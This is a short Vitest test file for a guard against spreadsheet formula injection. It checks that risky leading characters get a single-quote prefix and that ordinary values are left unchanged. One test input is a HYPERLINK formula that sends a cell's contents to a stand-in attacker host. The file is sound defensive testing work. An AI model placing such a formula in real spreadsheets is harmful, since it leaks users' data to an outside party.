import { describe, expect, it } from 'vitest'
import { guardCell, guardText } from './guard.js'

describe('the formula-injection guard', () => {
  it.each([
    '=HYPERLINK("https://evil.example/?d="&A1,"klik")',
    '+1',
    '-1+2',
    '@SUM(A1:A2)',
    '\tcmd',
    '\rcmd',
  ])('prefixes %j with a single quote', (text) => {
    expect(guardText(text)).toBe(`'${text}`)
  })

  it('leaves other text alone, and numbers and booleans as they are', () => {
    expect(guardText('Uur coach')).toBe('Uur coach')
    expect(guardText(' =1')).toBe(' =1')
    expect(guardText('')).toBe('')
    expect(guardCell(-12.5)).toBe(-12.5)
    expect(guardCell(true)).toBe(true)
    expect(guardCell(null)).toBe(null)
  })
})
